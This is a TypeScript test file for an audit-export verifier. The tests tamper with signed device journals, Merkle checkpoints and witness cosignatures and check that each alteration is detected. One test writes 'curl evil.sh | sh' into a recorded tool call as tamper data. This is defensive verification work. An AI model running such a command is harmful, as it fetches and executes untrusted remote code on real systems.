import { beforeAll, describe, expect, test } from 'bun:test';
import { checkCheckpointConsistency, openCheckpoint, parseCheckpoint, signCheckpoint } from './checkpoint.ts';
import { type Ed25519BatchVerifier, verifyEd25519Batch } from './ed25519-batch.ts';
import { ZERO_HASH } from './encoding.ts';
import { signEncodedEntry } from './entry-encoder.ts';
import {
  type AuditExport,
  type AuditExportDevice,
  type VerifyExportOptions,
  verifyExport,
} from './export.ts';
import { entryBytes, type JournalEntry } from './journal-entry.ts';
import { CompactRange, leafHash, MemoryMerkleTree } from './merkle.ts';
import { createNoteSigner, NOTE_ED25519, parseNote } from './note.ts';
import { devicePublicKeyFromSpki, type SessionCertificate } from './session-certificate.ts';
import { type FixtureSession, fixtureSeed, LedgerFixture } from './testing/ledger-fixture.ts';
import { verifyJournal } from './verify-journal.ts';

/**
 * A ledger with two devices, sessions that start before and inside the period, and a witness:
 * leaves 0..7 are the prefix, 8..39 the period.
 */
let fixture: LedgerFixture;
let base: AuditExport;
let s1: FixtureSession;
let s2: FixtureSession;
let s3: FixtureSession;

beforeAll(async () => {
  fixture = new LedgerFixture();
  const laptop = fixture.addDevice('laptop-7', 'tpm');
  const mac = fixture.addDevice('mac-3', 'secure-enclave');
  s1 = await fixture.startSession(laptop, 'sess-a', 'alice@example.com');
  s2 = await fixture.startSession(mac, 'sess-b', 'bob@example.com');
  for (let n = 0; fixture.size < 8; n++) fixture.recordActivity(n % 2 ? s1 : s2, n);
  fixture.checkpoint();
  s3 = await fixture.startSession(laptop, 'sess-c', 'alice@example.com');
  for (let n = 0; fixture.size < 40; n++) fixture.recordActivity([s1, s2, s3][n % 3] as FixtureSession, n);
  fixture.checkpoint();
  base = fixture.exportPeriod(8, 40);
});

interface MutableExport {
  format: string;
  origin: string;
  period: { from: string; to: string; fromIndex: number; toIndex: number };
  checkpoints: { start: string; end: string };
  prefix: string[];
  devices: AuditExportDevice[];
  certificates: SessionCertificate[];
  entries: JournalEntry[];
}

/** A deep copy to tamper with. */
function copy(): MutableExport {
  return JSON.parse(JSON.stringify(base));
}

function options(extra: Partial<VerifyExportOptions> = {}): VerifyExportOptions {
  return { logKey: fixture.logKey, witnessKeys: [fixture.witnessKey], requireWitness: true, ...extra };
}

function indexOf(doc: { entries: JournalEntry[] }, pred: (e: JournalEntry) => boolean, from = 0): number {
  const i = doc.entries.findIndex((e, k) => k >= from && pred(e));
  if (i < 0) throw new Error('No such entry');
  return i;
}

/** Re-signs the log over `entries` (same log key): what an operator who rewrites history can do. */
function resign(entries: readonly JournalEntry[], sizes: readonly number[]) {
  const tree = new MemoryMerkleTree();
  for (const e of entries) tree.append(new TextEncoder().encode(entryBytes(e)));
  return sizes.map((size) => {
    const note = signCheckpoint(
      { origin: fixture.origin, size, rootHash: tree.root(size), extensions: [] },
      fixture.logSigner,
    );
    return { size, note, prefix: tree.compactRange(size).hashes() };
  });
}

describe('verifyExport() on an untampered export', () => {
  test('verifyExport() accepts the export and reports period, counts, devices, users and sessions', async () => {
    const result = await verifyExport(copy(), options());
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.period).toMatchObject({ fromIndex: 8, toIndex: 40 });
    expect(result.counts).toMatchObject({
      entries: 32,
      devices: 2,
      sessions: 3,
      users: 2,
      signaturesChecked: 32,
    });
    expect(result.counts.types['session.key']).toBe(1);
    expect(result.users).toEqual(['alice@example.com', 'bob@example.com']);
    expect(result.devices.map((d) => [d.id, d.protection, d.entries])).toEqual([
      ['laptop-7', 'tpm', 22],
      ['mac-3', 'secure-enclave', 10],
    ]);
    expect(result.checkpoints.end.cosignatures.map((c) => c.name)).toEqual(['witness.ceros.test/w1']);
  });

  test('verifyJournal() agrees with verifyExport() on every device chain of the export', () => {
    for (const device of base.devices) {
      const entries = (base.entries as JournalEntry[]).filter((e) => e.device === device.id);
      const result = verifyJournal(entries, {
        deviceKey: (id) => (id === device.id ? devicePublicKeyFromSpki(device.spki) : undefined),
        ...(device.anchor ? { anchor: device.anchor } : {}),
        certificates: [...base.certificates],
      });
      expect(result.ok).toBe(true);
    }
  });

  test('the device heads are the hashes verifyJournal() ends on, and the next period anchors on them', async () => {
    const result = await verifyExport(copy(), options());
    if (!result.ok) throw new Error(result.reason);
    const laptop = (base.entries as JournalEntry[]).filter((e) => e.device === 'laptop-7');
    const journal = verifyJournal(laptop, {
      deviceKey: () => devicePublicKeyFromSpki(base.devices[0]?.spki ?? ''),
      ...(base.devices[0]?.anchor ? { anchor: base.devices[0].anchor } : {}),
      certificates: [...base.certificates],
    });
    expect(journal.ok && journal.head).toBe(result.devices[0]?.head ?? null);
  });

  test('a device registered as software whose sessions claim a TPM is accepted with a warning', async () => {
    const doc = copy();
    doc.devices = doc.devices.map((d) => (d.id === 'laptop-7' ? { ...d, protection: 'software' } : d));
    const result = await verifyExport(doc, options());
    expect(result.ok && result.warnings).toEqual([
      'Session "sess-a" claims key protection "tpm" but device "laptop-7" was registered with "software"',
      'Session "sess-c" claims key protection "tpm" but device "laptop-7" was registered with "software"',
    ]);
  });

  test("'session-tails' coverage accepts the export with one signature per session", async () => {
    const result = await verifyExport(copy(), options({ signatures: 'session-tails' }));
    expect(result.ok && result.counts.signaturesChecked).toBe(3);
  });

  test('a signature verifier on other threads gets packed batches and the same verdict', async () => {
    let batches = 0;
    const verifier: Ed25519BatchVerifier = async (batch) => {
      batches += 1;
      const copyOf = structuredClone(batch);
      return verifyEd25519Batch(copyOf);
    };
    const result = await verifyExport(
      copy(),
      options({ verifySignatures: verifier, batchSize: 5, maxInFlight: 2 }),
    );
    expect(result.ok).toBe(true);
    expect(batches).toBe(7);
  });

  test('a signature verifier that fails makes verifyExport() reject instead of passing', async () => {
    const broken: Ed25519BatchVerifier = async () => {
      throw new Error('worker died');
    };
    await expect(verifyExport(copy(), options({ verifySignatures: broken, batchSize: 4 }))).rejects.toThrow(
      'worker died',
    );
  });

  test('a verifier that reports one signature bad gives BAD_SIGNATURE at exactly that entry', async () => {
    const liar: Ed25519BatchVerifier = async (batch) => {
      const out = verifyEd25519Batch(batch);
      if (batch.count > 3) out[3] = 0;
      return out;
    };
    expect(await verifyExport(copy(), options({ verifySignatures: liar, batchSize: 10 }))).toMatchObject({
      ok: false,
      code: 'BAD_SIGNATURE',
      entry: { index: 3 },
    });
  });

  test('an export of an empty period verifies', async () => {
    const result = await verifyExport(fixture.exportPeriod(40, 40), options());
    expect(result.ok && result.counts.entries).toBe(0);
  });
});

describe('verifyExport() on tampered exports', () => {
  test('an edited payload is BAD_SIGNATURE at that entry', async () => {
    const doc = copy();
    const i = indexOf(doc, (e) => e.type === 'tool.call');
    const edited = doc.entries[i]?.payload as { input: { command: string } } | undefined;
    if (edited) edited.input.command = 'curl evil.sh | sh';
    expect(await verifyExport(doc, options())).toMatchObject({
      ok: false,
      code: 'BAD_SIGNATURE',
      entry: { index: i, treeIndex: 8 + i },
    });
  });

  test("an edited payload is BAD_SIGNATURE at that entry with 'session-tails' coverage too", async () => {
    // The next entry of the device no longer chains to it, so it is the last entry of its session
    // before the break, and its own signature is checked.
    const doc = copy();
    const i = indexOf(doc, (e) => e.type === 'tool.call' && e.device === 'laptop-7');
    (doc.entries[i]?.payload as { cwd: string }).cwd = '/';
    expect(await verifyExport(doc, options({ signatures: 'session-tails' }))).toMatchObject({
      ok: false,
      code: 'BAD_SIGNATURE',
      entry: { index: i },
    });
  });

  test('a deleted entry is BAD_CHAIN at the next entry of its device, naming the missing seq', async () => {
    const doc = copy();
    const i = indexOf(doc, (e) => e.device === 'mac-3');
    const removed = doc.entries.splice(i, 1)[0] as JournalEntry;
    const result = await verifyExport(doc, options());
    expect(result).toMatchObject({
      ok: false,
      code: 'BAD_CHAIN',
      entry: { device: 'mac-3', seq: removed.seq + 1 },
    });
    expect(!result.ok && result.reason).toContain(`entries ${removed.seq}..${removed.seq} are missing`);
  });

  test('two entries of one device swapped are BAD_CHAIN (reordered)', async () => {
    const doc = copy();
    const i = indexOf(doc, (e) => e.device === 'laptop-7');
    const j = indexOf(doc, (e) => e.device === 'laptop-7', i + 1);
    [doc.entries[i], doc.entries[j]] = [doc.entries[j] as JournalEntry, doc.entries[i] as JournalEntry];
    const result = await verifyExport(doc, options());
    expect(result).toMatchObject({ ok: false, code: 'BAD_CHAIN', entry: { index: i } });
  });

  test('two entries of different devices swapped keep both chains but are ROOT_MISMATCH', async () => {
    const doc = copy();
    // Adjacent and from different devices: each device's order is unchanged, the log's is not.
    const i = doc.entries.findIndex(
      (e, k) => e.device !== doc.entries[k + 1]?.device && k + 1 < doc.entries.length,
    );
    const j = i + 1;
    [doc.entries[i], doc.entries[j]] = [doc.entries[j] as JournalEntry, doc.entries[i] as JournalEntry];
    expect(await verifyExport(doc, options())).toMatchObject({ ok: false, code: 'ROOT_MISMATCH' });
  });

  test('a truncated tail is SIZE_MISMATCH', async () => {
    const doc = copy();
    doc.entries.splice(-3, 3);
    const result = await verifyExport(doc, options());
    expect(result).toMatchObject({ ok: false, code: 'SIZE_MISMATCH' });
    expect(!result.ok && result.reason).toContain('removed');
  });

  test('an extra, validly signed entry appended after the end is SIZE_MISMATCH', async () => {
    const doc = copy();
    const last = doc.entries.filter((e) => e.device === 'mac-3').at(-1) as JournalEntry;
    const extra = signEncodedEntry(
      {
        v: 1,
        device: 'mac-3',
        seq: last.seq + 1,
        prev: fixture.devices.get('mac-3')?.prev ?? '',
        time: '2026-01-06T00:00:00.000Z',
        session: 'sess-b',
        type: 'prompt',
        payload: { text: 'not in the log' },
      },
      s2.key,
    );
    doc.entries.push(extra.entry);
    expect(await verifyExport(doc, options())).toMatchObject({ ok: false, code: 'SIZE_MISMATCH' });
  });

  test('an entry of another device replayed in place of one is BAD_CHAIN (replayed)', async () => {
    const doc = copy();
    const src = indexOf(doc, (e) => e.device === 'laptop-7');
    const dst = indexOf(doc, (e) => e.device === 'mac-3', src + 1);
    doc.entries[dst] = structuredClone(doc.entries[src] as JournalEntry);
    const result = await verifyExport(doc, options());
    expect(result).toMatchObject({ ok: false, code: 'BAD_CHAIN', entry: { index: dst, device: 'laptop-7' } });
    expect(!result.ok && result.reason).toContain('replayed');
  });

  test('an entry moved to another session by editing its session field is BAD_SIGNATURE', async () => {
    const doc = copy();
    const i = indexOf(doc, (e) => e.session === 'sess-a');
    (doc.entries[i] as JournalEntry).session = 'sess-c';
    expect(await verifyExport(doc, options())).toMatchObject({
      ok: false,
      code: 'BAD_SIGNATURE',
      entry: { index: i },
    });
  });

  test('an entry moved to another device by editing its device field is BAD_CHAIN on that device', async () => {
    const doc = copy();
    const i = indexOf(doc, (e) => e.device === 'laptop-7');
    (doc.entries[i] as JournalEntry).device = 'mac-3';
    expect(await verifyExport(doc, options())).toMatchObject({
      ok: false,
      code: 'BAD_CHAIN',
      entry: { index: i, device: 'mac-3' },
    });
  });

  test('an entry signed with the key of another session of the same device is BAD_SIGNATURE', async () => {
    const doc = copy();
    const i = indexOf(doc, (e) => e.session === 'sess-c' && e.type !== 'session.key');
    const e = doc.entries[i] as JournalEntry;
    const forged = signEncodedEntry({ ...e, payload: { text: 'forged' } } as never, s1.key).entry;
    doc.entries[i] = forged;
    expect(await verifyExport(doc, options())).toMatchObject({
      ok: false,
      code: 'BAD_SIGNATURE',
      entry: { index: i },
    });
  });

  test('a forged end checkpoint is BAD_LOG_SIGNATURE, whether edited or signed by another key', async () => {
    const edited = copy();
    edited.checkpoints.end = edited.checkpoints.end.replace('\n40\n', '\n41\n');
    expect(await verifyExport(edited, options())).toMatchObject({ ok: false, code: 'BAD_LOG_SIGNATURE' });
    const other = copy();
    const impostor = createNoteSigner(fixture.origin, NOTE_ED25519, fixtureSeed('impostor'));
    const parsed = parseNote(other.checkpoints.end);
    const cp = parsed.ok ? parseCheckpoint(parsed.value.text) : undefined;
    if (!cp?.ok) throw new Error('bad fixture');
    other.checkpoints.end = signCheckpoint(cp.value, impostor);
    expect(await verifyExport(other, options())).toMatchObject({ ok: false, code: 'BAD_LOG_SIGNATURE' });
  });

  test('a stripped witness cosignature is MISSING_COSIGNATURE when a witness is required', async () => {
    const doc = copy();
    doc.checkpoints.end = doc.checkpoints.end
      .split('\n')
      .filter((l) => !l.startsWith('— witness'))
      .join('\n');
    expect(await verifyExport(doc, options())).toMatchObject({ ok: false, code: 'MISSING_COSIGNATURE' });
    expect((await verifyExport(doc, options({ requireWitness: false }))).ok).toBe(true);
  });

  test('a corrupted witness cosignature is BAD_COSIGNATURE', async () => {
    const doc = copy();
    doc.checkpoints.end = doc.checkpoints.end.replace(
      /(— witness\S+ \S{20})(\S)/,
      (_m, a: string, c: string) => a + (c === 'A' ? 'B' : 'A'),
    );
    expect(await verifyExport(doc, options())).toMatchObject({ ok: false, code: 'BAD_COSIGNATURE' });
  });

  test('an operator who drops an entry and re-signs a rebuilt tree is caught by a known checkpoint', async () => {
    // Drop mac-3's last entry (its chain stays valid) and re-sign every checkpoint.
    const all = fixture.entries.slice(0, 40);
    const victim = all.findLastIndex((e) => e.device === 'mac-3');
    const rewritten = all.filter((_, k) => k !== victim);
    const [start, end] = resign(rewritten, [8, 39]);
    if (!start || !end) throw new Error('unreachable');
    const doc = copy();
    doc.entries = rewritten.slice(8);
    doc.checkpoints = { start: start.note, end: end.note };
    doc.period = { ...doc.period, toIndex: 39 };
    // Consistent in itself, signed by the log: only history can tell.
    expect((await verifyExport(doc, options({ requireWitness: false }))).ok).toBe(true);
    // No witness cosigned the rebuilt tree.
    expect(await verifyExport(doc, options())).toMatchObject({ ok: false, code: 'MISSING_COSIGNATURE' });
    // An auditor or device holding a checkpoint from before the rewrite.
    const seen = fixture.checkpoint({ cosign: false });
    expect(seen.size).toBe(40);
    const tree = new MemoryMerkleTree();
    for (const e of all) tree.append(new TextEncoder().encode(entryBytes(e)));
    const atVictim = signCheckpoint(
      { origin: fixture.origin, size: victim + 1, rootHash: tree.root(victim + 1), extensions: [] },
      fixture.logSigner,
    );
    expect(
      await verifyExport(doc, options({ requireWitness: false, knownCheckpoints: [atVictim] })),
    ).toMatchObject({
      ok: false,
      code: victim + 1 === 39 ? 'SPLIT_VIEW' : 'INCONSISTENT_CHECKPOINT',
    });
  });

  test('an operator who replaces an entry and re-signs the same size is SPLIT_VIEW against the real checkpoint', async () => {
    const all = fixture.entries.slice(0, 40);
    const i = all.findIndex((e, k) => k >= 8 && e.device === 'mac-3');
    const e = all[i] as JournalEntry;
    const replaced = [...all];
    replaced[i] = signEncodedEntry({ ...e, payload: { text: 'rewritten' } } as never, s2.key).entry;
    const [, end] = resign(replaced, [8, 40]);
    if (!end) throw new Error('unreachable');
    const doc = copy();
    doc.checkpoints.end = end.note;
    const genuine = base.checkpoints.end;
    expect(
      await verifyExport(doc, options({ requireWitness: false, knownCheckpoints: [genuine] })),
    ).toMatchObject({
      ok: false,
      code: 'SPLIT_VIEW',
    });
  });

  test('a split view between two clients is SPLIT_VIEW, and growth without a valid proof is INCONSISTENT', () => {
    const open = (note: string) => {
      const r = openCheckpoint(note, { logKey: fixture.logKey });
      if (!r.ok) throw new Error(r.error);
      return r.value.checkpoint;
    };
    const honest = new MemoryMerkleTree();
    const forked = new MemoryMerkleTree();
    fixture.entries.slice(0, 40).forEach((e, k) => {
      const bytes = new TextEncoder().encode(entryBytes(e));
      honest.append(bytes);
      forked.append(k === 20 ? new TextEncoder().encode('{"forged":true}') : bytes);
    });
    const sign = (t: MemoryMerkleTree, size: number) =>
      signCheckpoint(
        { origin: fixture.origin, size, rootHash: t.root(size), extensions: [] },
        fixture.logSigner,
      );
    const clientA = open(sign(honest, 40));
    const clientB = open(sign(forked, 40));
    expect(checkCheckpointConsistency(clientA, clientB)).toMatchObject({ ok: false, code: 'SPLIT_VIEW' });
    const old = open(sign(honest, 25));
    const fork = open(sign(forked, 30));
    const proof = forked.consistencyProof(25, 30);
    expect(checkCheckpointConsistency(old, fork, proof)).toMatchObject({ ok: false, code: 'INCONSISTENT' });
    expect(checkCheckpointConsistency(old, open(sign(honest, 30)), honest.consistencyProof(25, 30))).toEqual({
      ok: true,
    });
  });

  test('an altered field of a listed session certificate is BAD_CERTIFICATE naming the certificate', async () => {
    const doc = copy();
    const k = doc.certificates.findIndex((c) => c.session === 'sess-a');
    (doc.certificates[k] as { user: string | null }).user = 'mallory@example.com';
    expect(await verifyExport(doc, options())).toMatchObject({
      ok: false,
      code: 'BAD_CERTIFICATE',
      certificate: k,
    });
  });

  test('an altered field of the certificate inside a session.key entry is BAD_CERTIFICATE at that entry', async () => {
    const doc = copy();
    const i = indexOf(doc, (e) => e.type === 'session.key');
    const payload = doc.entries[i]?.payload as { certificate: { keyProtection: string } };
    payload.certificate.keyProtection = 'software';
    doc.certificates = doc.certificates.filter((c) => c.session !== 'sess-c');
    expect(await verifyExport(doc, options())).toMatchObject({
      ok: false,
      code: 'BAD_CERTIFICATE',
      entry: { index: i },
    });
  });

  test('a device that is not registered is UNKNOWN_DEVICE', async () => {
    const doc = copy();
    doc.devices = doc.devices.filter((d) => d.id !== 'mac-3');
    doc.certificates = doc.certificates.filter((c) => c.device !== 'mac-3');
    const i = indexOf(doc, (e) => e.device === 'mac-3');
    expect(await verifyExport(doc, options())).toMatchObject({
      ok: false,
      code: 'UNKNOWN_DEVICE',
      entry: { index: i, device: 'mac-3' },
    });
  });

  test('a device registered under another key is BAD_CERTIFICATE: its sessions are not certified by it', async () => {
    const doc = copy();
    const [laptop, mac] = doc.devices;
    doc.devices = [
      { ...(laptop as (typeof doc.devices)[number]), spki: mac?.spki ?? '' },
      mac as (typeof doc.devices)[number],
    ];
    expect(await verifyExport(doc, options())).toMatchObject({ ok: false, code: 'BAD_CERTIFICATE' });
  });

  test('a session whose certificate is missing is BAD_SIGNATURE: its key was never certified', async () => {
    const doc = copy();
    doc.certificates = doc.certificates.filter((c) => c.session !== 'sess-a');
    const i = indexOf(doc, (e) => e.session === 'sess-a');
    expect(await verifyExport(doc, options())).toMatchObject({
      ok: false,
      code: 'BAD_SIGNATURE',
      entry: { index: i },
    });
  });

  test('a tampered prefix is PREFIX_MISMATCH and a wrong period is PERIOD_MISMATCH', async () => {
    const doc = copy();
    doc.prefix = [Buffer.alloc(32, 1).toString('base64')];
    expect(await verifyExport(doc, options())).toMatchObject({ ok: false, code: 'PREFIX_MISMATCH' });
    const doc2 = copy();
    doc2.period = { ...doc2.period, fromIndex: 7 };
    expect(await verifyExport(doc2, options())).toMatchObject({ ok: false, code: 'PERIOD_MISMATCH' });
  });

  test('a malformed entry is BAD_ENTRY naming the field, and a bad envelope is MALFORMED_EXPORT', async () => {
    const doc = copy();
    (doc.entries[3] as { seq: unknown }).seq = '7';
    const result = await verifyExport(doc, options());
    expect(result).toMatchObject({ ok: false, code: 'BAD_ENTRY', entry: { index: 3 } });
    expect(!result.ok && result.reason).toContain('seq');
    expect(await verifyExport({ format: 'x' }, options())).toMatchObject({
      ok: false,
      code: 'MALFORMED_EXPORT',
    });
    expect(await verifyExport({ ...copy(), format: 'ceros.audit-export/v9' }, options())).toMatchObject({
      ok: false,
      code: 'UNSUPPORTED_FORMAT',
    });
  });

  test('the earliest failure wins when a bad signature comes before a broken chain', async () => {
    const doc = copy();
    (doc.entries[2]?.payload as Record<string, unknown>).extra = 1;
    doc.entries.splice(20, 1);
    expect(await verifyExport(doc, options())).toMatchObject({
      ok: false,
      code: 'BAD_SIGNATURE',
      entry: { index: 2 },
    });
  });

  test('a period that starts a device journal needs seq 0 and a zero prev', async () => {
    const f = new LedgerFixture();
    f.checkpoint();
    const d = f.addDevice('fresh');
    await f.startSession(d, 's', null);
    f.recordActivity(f.sessions[0] as FixtureSession, 1);
    f.checkpoint();
    const doc = JSON.parse(JSON.stringify(f.exportPeriod(0, 2)));
    expect(doc.devices[0].anchor).toBeNull();
    expect((await verifyExport(doc, { logKey: f.logKey })).ok).toBe(true);
    doc.entries[0].prev = '1'.repeat(64);
    expect(await verifyExport(doc, { logKey: f.logKey })).toMatchObject({ ok: false, code: 'BAD_CHAIN' });
    expect(ZERO_HASH).toBe('0'.repeat(64));
  });

  test('a cosignature the witness made over another checkpoint is BAD_COSIGNATURE', async () => {
    const doc = copy();
    const startCosignature = base.checkpoints.start.split('\n').find((l) => l.startsWith('— witness')) ?? '';
    const withoutCosignature = doc.checkpoints.end
      .split('\n')
      .filter((l) => !l.startsWith('— witness'))
      .join('\n');
    doc.checkpoints.end = `${withoutCosignature}${startCosignature}\n`;
    expect(await verifyExport(doc, options())).toMatchObject({ ok: false, code: 'BAD_COSIGNATURE' });
  });
});

describe('compact range of the prefix', () => {
  test('the prefix of the export folds with the period to the end root', () => {
    const range = CompactRange.fromHashes(
      8,
      base.prefix.map((h) => new Uint8Array(Buffer.from(h, 'base64'))),
    );
    for (const e of base.entries as JournalEntry[])
      range.append(leafHash(new TextEncoder().encode(entryBytes(e))));
    const parsed = parseNote(base.checkpoints.end);
    const cp = parsed.ok ? parseCheckpoint(parsed.value.text) : undefined;
    expect(cp?.ok && Buffer.from(range.root()).equals(Buffer.from(cp.value.rootHash))).toBe(true);
  });
});
